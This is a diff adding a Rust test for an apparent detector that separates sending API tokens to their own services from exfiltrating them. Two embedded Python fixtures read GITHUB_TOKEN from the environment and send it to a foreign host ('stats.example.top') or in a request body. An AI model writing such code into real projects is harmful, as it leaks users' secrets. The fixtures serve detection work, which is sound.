@@ -183,6 +183,69 @@ fn requests_with_identity_is_a_flow_with_steps_and_endpoint() {
     assert!(steps.last().unwrap().starts_with("sent by requests.post"));
 }
 
+/// A token in a request's auth position, sent to the service it belongs to or to an address
+/// the caller gives, is use (aider's `GITHUB_TOKEN` to api.github.com, an OpenRouter key to
+/// openrouter.ai); the same header to a constant foreign host, or the token in a body, is a flow.
+#[test]
+fn credentials_sent_to_their_service_are_use_not_exfiltration() {
+    let uses = |src: &str| {
+        let f = facts(src);
+        assert!(f.flows.is_empty(), "{src}\nflows: {:#?}", f.flows);
+        f.credential_uses
+    };
+    // A headers dict in a variable, passed to several requests.
+    let u = uses(
+        "import os, requests\n\
+         TOKEN = os.getenv('GITHUB_TOKEN')\n\
+         headers = {'Authorization': f'token {TOKEN}', 'Accept': 'application/vnd.github.v3+json'}\n\
+         def issues():\n    return requests.get('https://api.github.com/repos/a/b/issues', headers=headers)\n\
+         def close(n):\n    requests.patch(f'https://api.github.com/repos/a/b/issues/{n}', headers=headers, json={'state': 'closed'})\n",
+    );
+    assert_eq!(u.len(), 1, "{u:#?}");
+    assert_eq!(u[0].host.as_deref(), Some("api.github.com"));
+    assert_eq!(u[0].position, "Authorization header");
+    assert!(u[0].kinds.contains(DataKind::SecretEnv));
+    assert!(u[0].secret.contains("GITHUB_TOKEN"), "{}", u[0].secret);
+    // Through a parameter, the dict written in the call.
+    let u = uses(
+        "import os, requests\n\
+         def tier(api_key):\n    return requests.get('https://openrouter.ai/api/v1/auth/key', headers={'Authorization': f'Bearer {api_key}'}, timeout=5)\n\
+         tier(os.environ.get('OPENROUTER_API_KEY'))\n",
+    );
+    assert_eq!(u.len(), 1);
+    assert_eq!(u[0].host.as_deref(), Some("openrouter.ai"));
+    // A subscript write, to the URL the caller gives; `auth=` to the service's host.
+    let u = uses(
+        "import os, requests\n\
+         def call(url, body):\n    h = {}\n    h['x-api-key'] = os.environ['ANTHROPIC_API_KEY']\n    return requests.post(url, headers=h, json=body)\n",
+    );
+    assert_eq!((u.len(), u[0].host.as_deref()), (1, None));
+    assert_eq!(u[0].position, "x-api-key header");
+    let u = uses(
+        "import os, requests\n\
+         requests.get('https://gitlab.com/api/v4/user', auth=('me', os.environ['GITLAB_TOKEN']))\n",
+    );
+    assert_eq!((u.len(), u[0].position.as_str()), (1, "auth option"));
+    // The same header to a constant host the token does not belong to is exfiltration.
+    let fl = one_flow(
+        "import os, requests\n\
+         headers = {'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']}\n\
+         requests.get('https://stats.example.top/ping', headers=headers)\n",
+    );
+    assert!(fl.kinds.contains(DataKind::SecretEnv));
+    assert_eq!(fl.endpoints, vec!["stats.example.top"]);
+    assert!(fl.steps.iter().any(|s| s.what.starts_with("as the Authorization header")));
+    // A token in the body is sent, whoever receives it.
+    let fl = one_flow(
+        "import os, requests\n\
+         requests.post('https://api.github.com/gists', json={'token': os.environ['GITHUB_TOKEN']})\n",
+    );
+    assert!(fl.kinds.contains(DataKind::SecretEnv));
+    // A constant or a non-secret in the auth position is nothing.
+    let f = facts("import requests\nrequests.get('https://api.example.com', headers={'Authorization': 'Basic Zm9v'})\n");
+    assert!(f.flows.is_empty() && f.credential_uses.is_empty());
+}
+
 #[test]
 fn ordinary_requests_are_quiet() {
     no_flow("import requests\nrequests.get('https://pypi.org/simple/requests/')");
